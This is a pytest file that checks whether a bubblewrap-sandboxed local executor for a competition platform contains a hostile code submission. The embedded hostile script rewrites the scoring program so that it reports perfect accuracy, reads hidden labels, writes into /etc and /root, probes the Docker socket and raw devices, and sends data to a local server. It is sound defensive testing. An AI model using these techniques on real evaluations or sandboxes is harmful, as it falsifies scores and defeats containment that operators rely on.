"""Issue 9, item 4: the local executor under bubblewrap against a hostile code submission.

The submission finds this run's scoring program through ``/proc/self/mountinfo`` (and the work
dir it is told) and tries to rewrite it, writes into ``/etc`` and ``/root`` (unique sentinel
names), reads the run's labels and a copy of them outside the run folder (the organiser's other
checkout), lists ``/root``, and connects to a TCP server this test starts on 127.0.0.1.
All must fail, and the honest score (0.25) must stand. Without bubblewrap (path rewriting) there
is no protection, and the run's warnings say so.
"""

from __future__ import annotations

import json
import shutil
import socket
import threading
import uuid
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest

from codalab_worker_compat import LocalExecutor, RunResult, load_bundle, run_submission
from codalab_worker_compat._local import bwrap_probe, software_folders
from hostile import HONEST, code_submission, v2_scoring_bundle
from test_runner import step

HOSTILE = """\
    import glob, json, os, socket, sys
    work, port, sentinel, copy = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    tried = {"uid": os.getuid()}
    mounts = [line.split() for line in open("/proc/self/mountinfo")]
    output = [m[3] for m in mounts if m[4] == "/app/output"]  # its host path: <work>/prediction/output
    tried["mountinfo"] = output
    guessed = [os.path.dirname(os.path.dirname(o)) for o in output] + [work]
    scorers = [os.path.join(w, "bundle", "scoring_program", "score.py") for w in guessed]
    scorers += glob.glob(work + "/**/score.py", recursive=True)
    def attempt(name, action):
        try:
            action()
            tried[name] = "ok"
        except Exception as error:
            tried[name] = type(error).__name__
    def rewrite():
        done = 0
        for folder in scorers:
            with open(folder, "w") as f:
                f.write("import json\\njson.dump({'accuracy': 1.0}, open('/app/output/scores.json', 'w'))\\n")
            done += 1
    attempt("rewrite scorer", rewrite)
    attempt("write /etc", lambda: open("/etc/" + sentinel, "w").write("x"))
    attempt("write /root", lambda: open("/root/" + sentinel, "w").write("x"))
    def labels():
        found = glob.glob(work + "/**/labels.txt", recursive=True) + glob.glob("/app/**/labels.txt", recursive=True)
        if not found:
            raise FileNotFoundError("no labels")
        open(found[0]).read()
    attempt("read labels", labels)
    attempt("read a copy of the labels", lambda: open(copy).read())
    try:
        tried["root listing"] = sorted(os.listdir("/root"))
    except OSError:
        tried["root listing"] = []
    attempt("connect", lambda: socket.create_connection(("127.0.0.1", port), timeout=3).sendall(b"leak"))
    def docker():
        with socket.socket(socket.AF_UNIX) as engine:
            engine.settimeout(3)
            engine.connect("/var/run/docker.sock")
            engine.sendall(b"GET /version HTTP/1.0\\r\\n\\r\\n")
            if not engine.recv(100):
                raise ConnectionError("no answer")
    attempt("docker socket", docker)
    def disk():
        devices = [d for d in os.listdir("/dev") if d.startswith(("loop", "sd", "nvme", "vd", "xvd", "kmsg", "tty0"))]
        if not devices:
            raise FileNotFoundError("no disk device")
        open("/dev/" + devices[0], "rb").read(1)
    attempt("raw device", disk)
    with open("/app/output/predictions.txt", "w") as f:
        f.write("0\\n0\\n0\\n0\\n")
    print(json.dumps(tried))
    """


@pytest.fixture
def server() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on 127.0.0.1 that records what each connection sends."""
    received: list[bytes] = []
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
            except OSError:
                continue
            with connection:
                received.append(connection.recv(100) or b"(connected)")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield listener.getsockname()[1], received
    stop.set()
    thread.join(2)
    listener.close()


@pytest.fixture
def labels_copy() -> Iterator[Path]:
    """A copy of the labels outside /tmp and outside any run folder, as an organiser's other
    checkout of the bundle would be (beside this repository), removed afterwards."""
    folder = Path(__file__).resolve().parents[2] / f".hostile-labels-copy-{uuid.uuid4().hex}"
    folder.mkdir()
    (folder / "labels.txt").write_text("1\n1\n0\n1\n")
    try:
        yield folder / "labels.txt"
    finally:
        shutil.rmtree(folder)


def hostile_run(tmp_path: Path, port: int, executor: LocalExecutor,
                copy: Path = Path("/nonexistent")) -> tuple[RunResult, str, Path]:
    sentinel = f"aibench-sentinel-{uuid.uuid4().hex}"
    bundle = v2_scoring_bundle(tmp_path / "bundle")
    work = tmp_path / "work"
    submission = code_submission(tmp_path / "sub", HOSTILE, f"python3 run.py {work} {port} {sentinel} {copy}")
    result = run_submission(load_bundle(bundle), submission, executor, work, worker="codabench")
    return result, sentinel, work


def tried(result: RunResult) -> dict[str, object]:
    log = step(result, "prediction").logs["submission stdout"].read_text()
    lines = [line for line in log.splitlines() if line.startswith("{")]
    assert lines, log + step(result, "prediction").logs["submission stderr"].read_text()
    parsed: dict[str, object] = json.loads(lines[-1])
    return parsed


def host_reaches_docker() -> bool:
    """The control: the Docker engine's socket answers this (host) process."""
    with socket.socket(socket.AF_UNIX) as engine:
        engine.settimeout(3)
        engine.connect("/var/run/docker.sock")
        engine.sendall(b"GET /version HTTP/1.0\r\n\r\n")
        return bool(engine.recv(100))


def test_hostile_submission_under_bwrap_reaches_nothing(tmp_path: Path, server: tuple[int, list[bytes]],
                                                        labels_copy: Path) -> None:
    ok, why = bwrap_probe()
    assert ok, f"this test needs bubblewrap: apt-get install -y bubblewrap ({why})"
    assert host_reaches_docker(), "the control failed: this test needs a Docker engine at /var/run/docker.sock"
    port, received = server
    result, sentinel, work = hostile_run(tmp_path, port, LocalExecutor(), labels_copy)
    attempts = tried(result)
    assert attempts["uid"] == 65534
    assert {k: v for k, v in attempts.items() if v == "ok"} == {}, attempts
    software = {Path(p).name for p in software_folders() if Path(p).parent == Path("/root")}
    assert set(attempts["root listing"]) <= software, attempts  # only the mount points of PATH's software
    assert attempts["mountinfo"] == [str(work / "prediction" / "output")]  # the host path is visible, not reachable
    assert result.status == "finished", result.message
    assert result.row is not None and result.row.values["accuracy"] == Decimal("0.25")
    assert not Path("/etc", sentinel).exists() and not Path("/root", sentinel).exists()
    assert received == [], "the submission reached a server on the host's 127.0.0.1"
    assert "raise" not in (work / "bundle" / "scoring_program" / "score.py").read_text()
    assert "SystemExit" not in (work / "bundle" / "scoring_program" / "score.py").read_text()
    [warning] = [w for w in result.warnings if "bubblewrap" in w]
    assert "does NOT protect against" in warning and "--executor docker" in warning
    assert "without network" in warning


def test_network_is_given_when_asked(tmp_path: Path, server: tuple[int, list[bytes]]) -> None:
    port, received = server
    result, _, _ = hostile_run(tmp_path, port, LocalExecutor(network=True))
    assert tried(result)["connect"] == "ok" and received == [b"leak"]
    assert any("with the host's network" in w for w in result.warnings)


def test_path_rewrite_warns_loudly_that_nothing_is_protected(tmp_path: Path) -> None:
    bundle = v2_scoring_bundle(tmp_path / "bundle")
    submission = code_submission(tmp_path / "sub", f"open('/dev/null', 'w').write({HONEST!r})\n")
    result = run_submission(load_bundle(bundle), submission, LocalExecutor("none"), tmp_path / "work",
                            worker="codabench")
    [warning] = [w for w in result.warnings if "NO SANDBOX" in w]
    assert "NONE of the protections" in warning and "--executor docker" in warning


def test_result_submission_gets_no_trust_warning(tmp_path: Path) -> None:
    bundle = v2_scoring_bundle(tmp_path / "bundle")
    submission = tmp_path / "sub"
    submission.mkdir()
    (submission / "predictions.txt").write_text(HONEST)
    result = run_submission(load_bundle(bundle), submission, LocalExecutor(), tmp_path / "work", worker="codabench")
    assert result.status == "finished", result.message
    assert not [w for w in result.warnings if "bubblewrap" in w or "NO SANDBOX" in w]
